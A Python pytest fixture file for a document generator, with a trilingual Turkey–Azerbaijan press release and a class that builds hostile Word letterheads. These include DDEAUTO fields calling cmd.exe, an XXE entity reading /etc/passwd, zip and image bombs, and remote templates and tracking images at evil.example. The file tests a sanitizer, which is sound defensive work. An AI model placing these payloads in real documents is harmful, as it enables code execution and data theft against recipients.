"""A realistic release in Turkish, Azerbaijani and English, written to the templates' Markdown
contract (built here, so the tests do not depend on anything outside the project)."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import docx
import pytest
from docx.document import Document

from pressdraft.document.blocks import Block, parse_markdown
from pressdraft.document.docx import DocumentInfo, write_docx, write_side_by_side

CREATED = dt.datetime(2021, 10, 23, 9, 30, tzinfo=dt.UTC)

ISSUER = {
    "tr": "T.C. Cumhurbaşkanlığı İletişim Başkanlığı",
    "az": "Türkiyə Prezident Administrasiyasının Kommunikasiya İdarəsi",
    "en": "Directorate of Communications of the Turkish Presidency",
}

TR = """\
{.release}
BASIN BÜLTENİ · HEMEN YAYIMLANABİLİR

# Türkiye-Azerbaycan Ortak Medya Platformu ilk toplantısını İstanbul'da yaptı

## Altı komite kurulacak

{.dateline}
**İSTANBUL, 23 Ekim 2021** — Türkiye-Azerbaycan Ortak Medya Platformunun ilk toplantısı, \
Cumhurbaşkanlığı İletişim Başkanı Fahrettin Altun ile Azerbaycan Cumhurbaşkanı Yardımcısı ve \
Cumhurbaşkanlığı Dış Politika Dairesi Başkanı Hikmet Hacıyev'in eş başkanlığında İstanbul'da \
gerçekleştirildi.

“Köklü Geçmiş, Güçlü Gelecek” temasıyla düzenlenen toplantıya iki ülkenin üst düzey medya ve \
iletişim yetkilileri katıldı.

Taraflar, şu altı komitenin kurulmasına karar verdi:

- kamu diplomasisi
- uluslararası medya
- stratejik iletişim
- eğitim
- mevzuat ve regülasyon
- dijitalleşme ve uluslararasılaşma

> Altun, “Medya, iletişim ve kamu diplomasisi alanlarında Türkiye-Azerbaycan işbirliğinin \
güçlendirilmesine büyük önem veriyoruz. Bu alanlarda ortak çaba gösterilmesi konusunda \
mutabakat içindeyiz.” dedi.

> Altun, “Ülkelerimize yönelik yoğun dezenformasyon faaliyetleriyle karşı karşıya olduğumuz \
bir dönemde, iki kardeş ülkenin gücünü bütün dünyaya gösterecek işler yapacağız.” ifadelerini \
kullandı.

> Hacıyev ise “Bugün liderlerimiz sayesinde Türkiye ile Azerbaycan arasındaki ilişkiler en üst \
seviyededir. Yüzlerce yıl sonra da gelecek nesillerin aynı duyguyu taşımasını sağlamalıyız.” dedi.

Platform, Türkiye ile Azerbaycan arasında 10 Aralık 2020'de Bakü'de imzalanan mutabakat \
zaptıyla resmiyet kazandı. Platformun önümüzdeki dönemde özellikle film ve dizi sektörlerinde \
ortak projeler yürütmesi planlanıyor. Ayrıntılar [iletisim.gov.tr](https://www.iletisim.gov.tr) \
adresinde yer alıyor.

### Cumhurbaşkanlığı İletişim Başkanlığı hakkında

{.about}
Cumhurbaşkanlığı İletişim Başkanlığı, Cumhurbaşkanlığının kamuoyuyla iletişimini koordine eder, \
basın ve yayın kuruluşlarıyla ilişkileri yürütür ve Türkiye'nin tanıtımına yönelik çalışmalar \
yapar.

### Ayrıntılı bilgi için:

{.contact}
Basın ve Halkla İlişkiler, Cumhurbaşkanlığı İletişim Başkanlığı\\
[press@example.org](mailto:press@example.org) · +90 312 000 00 00

{.closing}
Kamuoyuna saygıyla duyurulur.
"""

AZ = """\
{.release}
DƏRHAL YAYIMLANMAQ ÜÇÜN

# Türkiyə-Azərbaycan Ortaq Media Platformasının ilk iclası İstanbulda keçirilib

## Altı komitə yaradılacaq

{.dateline}
**İSTANBUL, 23 oktyabr 2021** — Türkiyə-Azərbaycan Ortaq Media Platformasının ilk iclası \
oktyabrın 23-də İstanbulda Türkiyə Prezident Administrasiyasının Kommunikasiya İdarəsinin \
rəhbəri Fahrettin Altun və Azərbaycan Respublikası Prezidentinin köməkçisi – Prezident \
Administrasiyasının Xarici siyasət məsələləri şöbəsinin müdiri Hikmət Hacıyevin həmsədrliyi \
ilə keçirilib.

“Köklü keçmiş, güclü gələcək” şüarı ilə keçirilən iclasda iki ölkənin media və kommunikasiya \
sahəsində yüksək vəzifəli rəsmiləri iştirak ediblər.

Tərəflər aşağıdakı altı komitənin yaradılması barədə qərar qəbul ediblər:

- ictimai diplomatiya
- beynəlxalq media
- strateji kommunikasiya
- təhsil
- qanunvericilik və tənzimləmə
- rəqəmsallaşma və beynəlmiləlləşmə

> “Media, kommunikasiya və ictimai diplomatiya sahələrində Türkiyə-Azərbaycan əməkdaşlığının \
gücləndirilməsinə böyük önəm veririk. Bu sahələrdə birgə səy göstərilməsi barədə \
konsensusumuz var”, – deyə F.Altun bildirib.

> “Ölkələrimizə qarşı intensiv dezinformasiya fəaliyyəti ilə üzləşdiyimiz bir dövrdə iki \
qardaş ölkənin gücünü bütün dünyaya göstərəcək işlər görəcəyik”, – deyə o vurğulayıb.

> “Bu gün liderlərimizin sayəsində Türkiyə ilə Azərbaycan arasındakı münasibətlər ən yüksək \
səviyyədədir. Yüz illər sonra da gələcək nəsillərin eyni hissi yaşamasını təmin etməliyik”, – \
deyə H.Hacıyev qeyd edib.

Platforma Azərbaycan ilə Türkiyə arasında 2020-ci il dekabrın 10-da Bakıda imzalanmış \
anlaşma memorandumu ilə rəsmiləşib. Tərəflər qarşıdakı dövrdə xüsusilə film və serial \
sektorlarında birgə layihələr həyata keçirməyi planlaşdırırlar.

### Türkiyə Prezident Administrasiyasının Kommunikasiya İdarəsi haqqında

{.about}
Türkiyə Prezident Administrasiyasının Kommunikasiya İdarəsi Prezident Administrasiyasının \
ictimaiyyətlə kommunikasiyasını əlaqələndirir, mətbuat orqanları ilə münasibətləri həyata \
keçirir və Türkiyənin tanıdılması istiqamətində işlər görür.

### Əlavə məlumat üçün:

{.contact}
Mətbuat və ictimaiyyətlə əlaqələr, Türkiyə Prezident Administrasiyasının Kommunikasiya İdarəsi\\
[press@example.org](mailto:press@example.org) · +90 312 000 00 00
"""

EN = """\
{.release}
FOR IMMEDIATE RELEASE

# Turkey and Azerbaijan hold first meeting of Joint Media Platform

## Six committees to be established

{.dateline}
**ISTANBUL, October 23, 2021** — The first meeting of the Turkey-Azerbaijan Joint Media \
Platform was held in Istanbul on October 23, 2021, co-chaired by Fahrettin Altun, Director of \
Communications of the Turkish Presidency, and Hikmet Hajiyev, Assistant to the President of \
the Republic of Azerbaijan, Head of the Foreign Policy Affairs Department of the Presidential \
Administration.

The meeting, held under the theme “Rooted Past, Strong Future,” was attended by top media and \
communications officials from both countries.

The parties decided to establish six committees:

- public diplomacy
- international media
- strategic communication
- education
- legislation and regulation
- digitalization and internationalization

> “We place great importance on strengthening Turkey-Azerbaijan cooperation in the fields of \
media, communications and public diplomacy, and we agree on making joint efforts,” Altun said.

> “At a time when we face intense disinformation against our countries, we will do work that \
shows the strength of two brotherly nations to the whole world,” he added.

> “Today, thanks to our leaders, relations between Turkey and Azerbaijan are at their highest \
level. We must make sure future generations feel the same hundreds of years from now,” \
Hajiyev said.

The platform became official with a memorandum of understanding signed in Baku on December 10, \
2020. In the period ahead, the parties plan joint projects, especially in the movie and TV \
sectors. Details are at [iletisim.gov.tr](https://www.iletisim.gov.tr).

### About the Directorate of Communications

{.about}
The Directorate of Communications of the Turkish Presidency coordinates the Presidency's public \
communication, manages relations with the press and promotes Türkiye abroad.

### Media contact:

{.contact}
Press and Public Relations, Directorate of Communications of the Turkish Presidency\\
[press@example.org](mailto:press@example.org) · +90 312 000 00 00

{.end}
\\#\\#\\#
"""

RELEASES = {"tr": TR, "az": AZ, "en": EN}
TITLES = {
    "tr": "Türkiye-Azerbaycan Ortak Medya Platformu ilk toplantısını İstanbul'da yaptı",
    "az": "Türkiyə-Azərbaycan Ortaq Media Platformasının ilk iclası İstanbulda keçirilib",
    "en": "Turkey and Azerbaijan hold first meeting of Joint Media Platform",
}
SUBJECTS = {
    "tr": "Altı komite kurulacak",
    "az": "Altı komitə yaradılacaq",
    "en": "Six committees to be established",
}


def info_for(lang: str, **changes) -> DocumentInfo:
    values = {
        "lang": lang,
        "title": TITLES[lang],
        "subject": SUBJECTS[lang],
        "author": ISSUER[lang],
        "issuer": ISSUER[lang],
        "created": CREATED,
        "keywords": "medya, Türkiye, Azərbaycan",
    }
    values.update(changes)
    return DocumentInfo(**values)


def open_docx(data: bytes) -> Document:
    return docx.Document(io.BytesIO(data))


@pytest.fixture(scope="session")
def releases() -> dict[str, list[Block]]:
    """The reference release in each language, parsed."""
    return {lang: parse_markdown(markdown) for lang, markdown in RELEASES.items()}


@pytest.fixture(scope="session")
def editions(releases) -> dict[str, bytes]:
    """The three single-language editions, as written."""
    return {lang: write_docx(blocks, info_for(lang)) for lang, blocks in releases.items()}


@pytest.fixture(scope="session")
def side_by_side(releases) -> dict[str, bytes]:
    """The two- and three-language side-by-side editions."""
    tr_az = [(releases[lang], info_for(lang)) for lang in ("tr", "az")]
    all_three = [(releases[lang], info_for(lang)) for lang in ("tr", "az", "en")]
    return {"tr-az": write_side_by_side(tr_az), "tr-az-en": write_side_by_side(all_three)}


@pytest.fixture(scope="session")
def make_info():
    """``make_info("tr", title=…)``: the release's DocumentInfo, with changes."""
    return info_for


@pytest.fixture(scope="session")
def markdown() -> dict[str, str]:
    """The reference release's Markdown, per language."""
    return dict(RELEASES)


# -- letterheads built by code: a Word-made one, and hostile ones ------------------------------

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def png_bytes(width: int = 240, height: int = 80, color: str = "darkred") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "PNG")
    return buffer.getvalue()


def word_letterhead(font: str = "DejaVu Serif", logo: bool = True) -> bytes:
    """A letterhead as Word users make one: Word's own template (python-docx's default, with
    Word's built-in styles), the house font on Normal, a logo and ``{{issuer}}`` in the
    header, a footer with ``{{page}}``."""
    from docx.shared import Cm, Pt, RGBColor

    document = docx.Document()
    document.styles["Normal"].font.name = font
    document.styles["Normal"].font.size = Pt(10)
    document.styles["Title"].font.color.rgb = RGBColor(0x8B, 0x00, 0x00)
    section = document.sections[0]
    header = section.header.paragraphs[0]
    if logo:
        header.add_run().add_picture(io.BytesIO(png_bytes()), height=Cm(1.2))
    header.add_run("\t{{issuer}}")
    section.footer.paragraphs[0].text = "Ministry of Examples — {{page}}"
    document.add_paragraph("Sample body text the letterhead's author left behind.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, replace: dict[str, bytes | None] | None = None) -> bytes:
    """``data`` with some parts replaced (``None`` removes one), others as they were."""
    replace = dict(replace or {})
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in replace:
                blob = replace.pop(info.filename)
                if blob is not None:
                    target.writestr(info.filename, blob)
            else:
                target.writestr(info.filename, source.read(info.filename))
        for name, blob in replace.items():
            if blob is not None:
                target.writestr(name, blob)
    return buffer.getvalue()


def part(data: bytes, name: str) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(name).decode("utf-8")


def add_relationship(data: bytes, rels_name: str, rel_id: str, reltype: str, target: str, external: bool) -> bytes:
    rels = part(data, rels_name)
    mode = ' TargetMode="External"' if external else ""
    new = f'<Relationship Id="{rel_id}" Type="{reltype}" Target="{target}"{mode}/>'
    if rels.rstrip().endswith("/>") and "</Relationships>" not in rels:
        rels = rels.rstrip()[:-2] + f">{new}</Relationships>"
    else:
        rels = rels.replace("</Relationships>", f"{new}</Relationships>")
    return rezip(data, {rels_name: rels.encode()})


def with_relationships(data: bytes, rels_name: str) -> bytes:
    """``data`` with an (empty) relationships part ``rels_name`` if it had none."""
    if rels_name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        return data
    empty = f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{PR_NS}"/>'
    return rezip(data, {rels_name: empty.encode()})


def add_content_type(data: bytes, xml: str) -> bytes:
    types = part(data, "[Content_Types].xml").replace("</Types>", f"{xml}</Types>")
    return rezip(data, {"[Content_Types].xml": types.encode()})


def header_name(data: bytes) -> str:
    rels = part(data, "word/_rels/document.xml.rels")
    return "word/" + re.search(r'Target="(header\d*\.xml)"', rels).group(1)


def footer_name(data: bytes) -> str:
    rels = part(data, "word/_rels/document.xml.rels")
    return "word/" + re.search(r'Target="(footer\d*\.xml)"', rels).group(1)


HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
SETTINGS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
GLOSSARY_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"
VBA = "http://schemas.microsoft.com/office/2006/relationships"


def _complex_field(*instructions: str, result: str = "shown") -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


#: A paragraph of the fields the reports found kept: DDEAUTO and INCLUDETEXT of a share.
HOSTILE_FIELDS = (
    "<w:p>"
    + _complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
    + _complex_field(' INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx" ', result="included")
    + "</w:p>"
)

#: The same, in every spelling that a check by exact text or by one run would miss.
DISGUISED_FIELDS = (
    "<w:p>"
    + _complex_field(" DD", "EAUTO cmd ", '"/c calc"')
    + _complex_field(" ddeauto cmd x ")
    + _complex_field(' IncludeText "\\\\\\\\server\\\\share\\\\y.docx" ')
    + _complex_field(" PAGE ", result="1")
    + '<w:fldSimple w:instr=" includePicture &quot;http://evil.example/t.png&quot; \\d">'
    "<w:r><w:t>pic</w:t></w:r></w:fldSimple>"
    '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
    + _complex_field(" INCLUDETEXT x.docx ")
    + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    '<mc:Choice Requires="w14"><w:r><w:t>new</w:t></w:r></mc:Choice>'
    "<mc:Fallback>" + _complex_field(" DDE cmd x ") + "</mc:Fallback></mc:AlternateContent>"
    "</w:p>"
)

GLOSSARY = (
    f'<w:glossaryDocument xmlns:w="{W_NS}"><w:docParts><w:docPart><w:docPartBody>{HOSTILE_FIELDS}'
    "</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
)


def rename_part(data: bytes, old: str, new: str, content_type: str) -> bytes:
    """``data`` with part ``old`` renamed ``new`` (its relationships, the relationship to it and its
    content type following), declared as ``content_type``."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    folder, file = old.rsplit("/", 1)
    new_file = new.rsplit("/", 1)[1]
    replace: dict[str, bytes | None] = {old: None, new: archive.read(old)}
    old_rels = f"{folder}/_rels/{file}.rels"
    if old_rels in archive.namelist():
        replace[old_rels] = None
        replace[f"{folder}/_rels/{new_file}.rels"] = archive.read(old_rels)
    source_rels = f"{folder}/_rels/document.xml.rels"
    replace[source_rels] = part(data, source_rels).replace(f'Target="{file}"', f'Target="{new_file}"').encode()
    types = re.sub(rf'<Override PartName="/{re.escape(old)}"[^>]*/>', "", part(data, "[Content_Types].xml"))
    types = types.replace("</Types>", f'<Override PartName="/{new}" ContentType="{content_type}"/></Types>')
    replace["[Content_Types].xml"] = types.encode()
    return rezip(data, replace)


class HostileLetterheads:
    """Every attack the letterhead checks exist for, each built from a clean Word letterhead."""

    header_type = HEADER_TYPE
    settings_type = SETTINGS_TYPE

    def __init__(self) -> None:
        self.base = word_letterhead()

    def entities(self) -> bytes:
        doc = part(self.base, "word/document.xml")
        bomb = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        )
        doc = bomb + doc.split("?>", 1)[1].replace("Sample body", "&b; Sample body", 1)
        return rezip(self.base, {"word/document.xml": doc.encode()})

    def external_entity(self) -> bytes:
        name = header_name(self.base)
        header = part(self.base, name).split("?>", 1)[1]
        header = '<?xml version="1.0"?><!DOCTYPE w:hdr [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + header.replace(
            "{{issuer}}", "&x;"
        )
        return rezip(self.base, {name: header.encode()})

    def utf16_doctype(self) -> bytes:
        doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
        return rezip(self.base, {"word/document.xml": doc.encode("utf-16")})

    def macro_enabled(self) -> bytes:
        types = part(self.base, "[Content_Types].xml").replace(
            "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
        )
        return rezip(self.base, {"[Content_Types].xml": types.encode()})

    def with_vba_project(self) -> bytes:
        data = rezip(self.base, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake macros"})
        data = add_content_type(data, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
        return add_relationship(
            data, "word/_rels/document.xml.rels", "rIdVba",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin", external=False,
        )  # fmt: skip

    def external_links(self) -> bytes:
        """An attached template on a server, a header link to a file share, a remote image."""
        data = with_relationships(self.base, "word/_rels/settings.xml.rels")
        data = add_relationship(
            data, "word/_rels/settings.xml.rels", "rIdT", f"{R_NS}/attachedTemplate",
            "http://evil.example/t.dotm", external=True,
        )  # fmt: skip
        settings = part(data, "word/settings.xml").replace(
            "<w:defaultTabStop", '<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop', 1
        )
        if 'xmlns:r="' not in settings.split(">", 2)[1]:
            settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
        data = rezip(data, {"word/settings.xml": settings.encode()})
        name = header_name(data)
        rels_name = name.replace("word/", "word/_rels/") + ".rels"
        data = with_relationships(data, rels_name)
        data = add_relationship(data, rels_name, "rIdUnc", f"{R_NS}/hyperlink", "file://///server/share/x.exe", True)
        data = add_relationship(data, rels_name, "rIdWeb", f"{R_NS}/hyperlink", "https://ministry.example/", True)
        data = add_relationship(data, rels_name, "rIdImg", f"{R_NS}/image", "http://evil.example/track.png", True)
        header = part(data, name).replace(
            "</w:p>",
            f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdUnc"><w:r><w:t>share</w:t></w:r>'
            f'</w:hyperlink><w:hyperlink xmlns:r="{R_NS}" r:id="rIdWeb"><w:r><w:t>web</w:t>'
            "</w:r></w:hyperlink></w:p>",
            1,
        )
        return rezip(data, {name: header.encode()})

    def dde_fields(self) -> bytes:
        name = footer_name(self.base)
        dde = (
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            '&quot;/k calc&quot; "><w:r><w:t>Ministry</w:t></w:r></w:fldSimple></w:p>'
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
            'xml:space="preserve"> DDE cmd "/c calc" </w:instrText></w:r><w:r>'
            '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Examples</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
            'xml:space="preserve"> INCLUDETEXT "\\\\\\\\server\\\\x.docx" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
            'xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar '
            'w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar '
            'w:fldCharType="end"/></w:r></w:p>'
        )
        footer = part(self.base, name)
        footer = footer.replace("</w:ftr>", dde + "</w:ftr>")
        return rezip(self.base, {name: footer.encode()})

    def zip_bomb(self, megabytes: int = 80) -> bytes:
        buffer = io.BytesIO(self.base)
        with (
            zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
            archive.open("word/media/filler.bin", "w") as member,
        ):
            for _ in range(megabytes):
                member.write(bytes(1024 * 1024))
        return buffer.getvalue()

    def image_bomb(self) -> bytes:
        """A PNG that says it is 40,000 × 40,000 pixels (1.6 billion), in a few bytes."""
        import struct
        import zlib

        def chunk(kind: bytes, body: bytes) -> bytes:
            return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

        png = (
            b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", 40000, 40000, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
            + chunk(b"IEND", b"")
        )
        names = [n for n in zipfile.ZipFile(io.BytesIO(self.base)).namelist() if "media/" in n]
        return rezip(self.base, {names[0]: png})

    def svg_logo(self) -> bytes:
        names = [n for n in zipfile.ZipFile(io.BytesIO(self.base)).namelist() if "media/" in n]
        data = rezip(self.base, {names[0]: None, "word/media/logo.svg": b"<svg/>"})
        rels_name = header_name(data).replace("word/", "word/_rels/") + ".rels"
        rels = part(data, rels_name).replace(names[0].split("/", 1)[1], "media/logo.svg")
        data = rezip(data, {rels_name: rels.encode()})
        return add_content_type(data, '<Default Extension="svg" ContentType="image/svg+xml"/>')

    def lying_sizes(self) -> bytes:
        """A part whose zip headers declare 100 bytes for 400 KB of data."""
        import struct

        data = bytearray(rezip(self.base, {"word/media/big.bin": bytes(range(256)) * 1600}))
        name = b"word/media/big.bin"
        at = data.find(b"PK\x01\x02")
        while at >= 0:
            name_length = struct.unpack_from("<H", data, at + 28)[0]
            if bytes(data[at + 46 : at + 46 + name_length]) == name:
                struct.pack_into("<I", data, at + 24, 100)  # central directory
                local = struct.unpack_from("<I", data, at + 42)[0]
                struct.pack_into("<I", data, local + 22, 100)  # local header
            at = data.find(b"PK\x01\x02", at + 4)
        return bytes(data)

    def traversal(self) -> bytes:
        return rezip(self.base, {"../../evil.xml": b"<x/>"})

    def template(self) -> bytes:
        types = part(self.base, "[Content_Types].xml").replace(
            "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"
        )
        return rezip(self.base, {"[Content_Types].xml": types.encode()})

    # -- bypasses by part name, content type and spelling (issue 18) --------------------------

    def renamed_header(self, new_name: str, content_type: str = HEADER_TYPE) -> bytes:
        """The header moved to ``new_name`` (``word/header1.XML``, ``.bin``, no extension), its
        content type and relationship updated, holding DDEAUTO and INCLUDETEXT fields."""
        old = header_name(self.base)
        header = part(self.base, old).replace("</w:hdr>", f"{HOSTILE_FIELDS}</w:hdr>")
        return rename_part(rezip(self.base, {old: header.encode()}), old, new_name, content_type)

    def renamed_settings(self, new_name: str = "word/settings.XML", content_type: str = SETTINGS_TYPE) -> bytes:
        """The settings under another name (and type spelling), asking Word to update fields on open."""
        settings = part(self.base, "word/settings.xml").replace(
            "<w:defaultTabStop", '<w:updateFields w:val="true"/><w:defaultTabStop', 1
        )
        data = rezip(self.base, {"word/settings.xml": settings.encode()})
        return rename_part(data, "word/settings.xml", new_name, content_type)

    def mixed_case_types(self) -> bytes:
        """Every Word content type spelled in mixed case, as Word itself accepts them."""
        types = part(self.base, "[Content_Types].xml")
        types = types.replace("wordprocessingml.", "WordProcessingML.").replace("+xml", "+XML")
        types = types.replace("settings+", "Settings+").replace("header+", "Header+")
        return rezip(self.base, {"[Content_Types].xml": types.encode()})

    def disguised_fields(self) -> bytes:
        """Fields in the footer spelled to slip past a naive check: split instructions,
        lower and mixed case, simple fields, a field inside another, a field in a fallback."""
        name = footer_name(self.base)
        footer = part(self.base, name).replace("</w:ftr>", f"{HOSTILE_FIELDS}{DISGUISED_FIELDS}</w:ftr>")
        return rezip(self.base, {name: footer.encode()})

    def smuggled_parts(self) -> bytes:
        """Macros, ActiveX, OLE, an alternate chunk, a sub-document, a glossary and custom XML
        under innocent names, and an orphan part full of fields nothing points to."""
        data = self.base
        payloads = {
            "word/media/image9.png": ("application/vnd.ms-office.vbaProject", VBA, "vbaProject", b"\xd0\xcf macros"),
            "word/styles2.xml": ("application/vnd.ms-office.activeX+xml", R_NS, "control", b"<ax/>"),
            "word/theme/theme9.xml": (
                "application/vnd.openxmlformats-officedocument.oleObject",
                R_NS,
                "oleObject",
                b"\xd0\xcf ole",
            ),
            "word/chunk.XML": ("application/xhtml+xml", R_NS, "aFChunk", b"<html>DDEAUTO</html>"),
            "word/glossary/document.xml": (GLOSSARY_TYPE, R_NS, "glossaryDocument", GLOSSARY.encode()),
        }
        for index, (name, (ctype, ns, reltype, blob)) in enumerate(payloads.items()):
            data = rezip(data, {name: blob})
            data = add_content_type(data, f'<Override PartName="/{name}" ContentType="{ctype}"/>')
            target = name.removeprefix("word/")
            data = add_relationship(data, "word/_rels/document.xml.rels", f"rIdS{index}", f"{ns}/{reltype}",
                                    target, external=False)  # fmt: skip
        data = add_relationship(data, "word/_rels/document.xml.rels", "rIdSub", f"{R_NS}/subDocument",
                                "file:///c:/sub.docx", external=False)  # fmt: skip
        body = part(data, "word/document.xml").replace(
            "<w:sectPr",
            f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdS3"/>'
            f'<w:p><w:subDoc xmlns:r="{R_NS}" r:id="rIdSub"/></w:p><w:sectPr',
            1,
        )
        orphan = f'<w:hdr xmlns:w="{W_NS}">{HOSTILE_FIELDS}</w:hdr>'
        return rezip(data, {"word/document.xml": body.encode(), "word/orphan.xml": orphan.encode()})

    def external_targets(self) -> bytes:
        """External relationships with the mode in other cases, internal targets that leave the
        package, links in VML attributes and a hyperlink base on a share."""
        data = with_relationships(self.base, "word/_rels/settings.xml.rels")
        data = add_relationship(
            data, "word/_rels/settings.xml.rels", "rIdT", f"{R_NS}/attachedTemplate",
            "http://evil.example/t.dotm", external=True,
        )  # fmt: skip
        rels = part(data, "word/_rels/settings.xml.rels").replace('TargetMode="External"', 'TargetMode="external"')
        data = rezip(data, {"word/_rels/settings.xml.rels": rels.encode()})
        name = header_name(data)
        rels_name = name.replace("word/", "word/_rels/") + ".rels"
        data = add_relationship(data, rels_name, "rIdX", f"{R_NS}/image", "\\\\evil.example\\x.png", True)
        rels = part(data, rels_name).replace('TargetMode="External"', 'TargetMode="EXTERNAL"')
        rels = rels.replace(
            "</Relationships>",
            f'<Relationship Id="rIdUp" Type="{R_NS}/image" Target="../../../../etc/passwd"/>'
            f'<Relationship Id="rIdAbs" Type="{R_NS}/image" Target="file:///etc/passwd"/></Relationships>',
        )
        vml = (
            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://evil.example/s">'
            '<v:imagedata src="http://evil.example/track.png"/></v:shape></w:pict></w:r>'
        )
        header = part(data, name).replace(
            "</w:p>",
            f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdUp"><w:r><w:t>up</w:t></w:r></w:hyperlink>{vml}</w:p>',
            1,
        )
        share = "<HyperlinkBase>\\\\evil.example\\s</HyperlinkBase>"
        app = part(data, "docProps/app.xml").replace("<HyperlinkBase/>", share)
        return rezip(data, {rels_name: rels.encode(), name: header.encode(), "docProps/app.xml": app.encode()})

    def unknown_part(self) -> bytes:
        """A part of a kind no letterhead needs, which the cleaner cannot judge."""
        data = rezip(self.base, {"word/extra.dat": b"whatever"})
        data = add_content_type(data, '<Override PartName="/word/extra.dat" ContentType="application/x-unknown"/>')
        return add_relationship(data, "word/_rels/document.xml.rels", "rIdU", "http://example.org/rel/unknown",
                                "extra.dat", external=False)  # fmt: skip

    def mismatched_part(self) -> bytes:
        """A header relationship whose target is declared as a macro project."""
        name = header_name(self.base)
        types = part(self.base, "[Content_Types].xml").replace(
            f'PartName="/{name}" ContentType="{HEADER_TYPE}"',
            f'PartName="/{name}" ContentType="application/vnd.ms-office.vbaProject"',
        )
        return rezip(self.base, {"[Content_Types].xml": types.encode()})


@pytest.fixture(scope="session")
def hostile() -> HostileLetterheads:
    return HostileLetterheads()


@pytest.fixture(scope="session")
def word_made_letterhead() -> bytes:
    return word_letterhead()


@pytest.fixture(scope="session")
def letterhead_kit():
    """The letterhead-building helpers above, for the tests (no ``import conftest``)."""
    import types

    return types.SimpleNamespace(
        R_NS=R_NS, header_name=header_name, footer_name=footer_name, info_for=info_for,
        part=part, png_bytes=png_bytes, rezip=rezip, word_letterhead=word_letterhead,
    )  # fmt: skip
